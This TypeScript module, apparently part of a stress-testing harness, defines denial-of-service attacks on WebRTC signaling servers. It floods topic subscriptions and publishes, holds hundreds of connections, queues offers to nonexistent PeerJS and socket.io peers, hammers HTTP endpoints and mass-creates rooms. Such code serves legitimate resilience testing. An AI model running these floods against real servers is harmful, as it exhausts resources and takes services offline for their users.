import { frame, repeated } from "../attack-socket.ts";
import type { Attack, Attacker } from "../attacker.ts";

const topicsPerFrame = 100;
const peerjsPath = (id: string) => `/peerjs/peerjs?key=peerjs&id=${id}&token=${id}`;

export const signalingAttacks: readonly Attack[] = [
  {
    name: "topics",
    connections: 20,
    prepare: () => (attacker) =>
      attacker.pour("/signal", function* () {
        for (;;) {
          const topics = Array.from({ length: topicsPerFrame }, () => `topic ${attacker.next()}`);
          yield Buffer.concat(["subscribe", "unsubscribe"].map((type) => frame(JSON.stringify({ type, topics }))));
        }
      }),
  },
  {
    name: "topics-held",
    connections: 900,
    // The shortest names, so that each byte that is sent makes the server keep most.
    prepare: () => (attacker) => {
      const topics = Array.from({ length: topicsPerFrame }, () => attacker.next().toString(36));
      return attacker.hold("/signal", [frame(JSON.stringify({ type: "subscribe", topics }))]);
    },
  },
  {
    name: "publishes",
    connections: 10,
    prepare: () => {
      const publish = { type: "publish", topic: "flood", data: { type: "announce", from: "attacker" } };
      const messages = repeated(frame(JSON.stringify(publish)));
      return (attacker) =>
        attacker.pour("/signal", function* () {
          yield frame(JSON.stringify({ type: "subscribe", topics: ["flood"] }));
          for (;;) yield messages;
        });
    },
  },
  ...(["small", "large"] as const).map(
    (size): Attack => ({
      name: `mailboxes-peerjs-${size}`,
      connections: 20,
      prepare: () => {
        const payload = "x".repeat(size === "small" ? 10 : 45_000);
        return (attacker) => attacker.pour(peerjsPath(`attacker-${attacker.next()}`), () => offers(attacker, payload));
      },
    }),
  ),
  {
    name: "mailboxes-peers",
    connections: 20,
    prepare: () => (attacker) =>
      attacker.pour("/socket.io/?EIO=4&transport=websocket", function* () {
        const id = `attacker ${attacker.next()}`;
        yield frame("40");
        yield frame(`42${JSON.stringify(["device-registered", id])}`);
        for (;;) {
          const message = { connectionId: 1, fromDeviceId: id, toDeviceId: `offline ${attacker.next()}`, sdi: {} };
          yield repeated(frame(`42${JSON.stringify(["offer", message])}`)).subarray();
        }
      }),
  },
  ...(["id", "peers"] as const).map(
    (path): Attack => ({
      name: `peerjs-http-${path}`,
      connections: 20,
      prepare: () => async (attacker) => {
        while (!attacker.isOver) await attacker.request(`/peerjs/peerjs/${path}`);
      },
    }),
  ),
  {
    name: "octatecode-rooms",
    connections: 20,
    prepare: () => async (attacker) => {
      while (!attacker.isOver) {
        const body = JSON.stringify({ userId: "attacker", roomId: `room-${attacker.next()}`, roomName: "attack" });
        const headers = { "content-type": "application/json" };
        await attacker.request("/api/auth/token", { method: "POST", headers, body });
        await attacker.request("/api/rooms", { method: "POST", headers, body });
      }
    },
  },
];

/** Offers to clients that do not exist, some of them many times. */
function* offers(attacker: Attacker, payload: string): Generator<Uint8Array, never> {
  for (;;) {
    const dst = `offline-${attacker.next()}`;
    const message = frame(JSON.stringify({ type: "OFFER", dst, payload }));
    yield Buffer.concat([message, message, message]);
  }
}
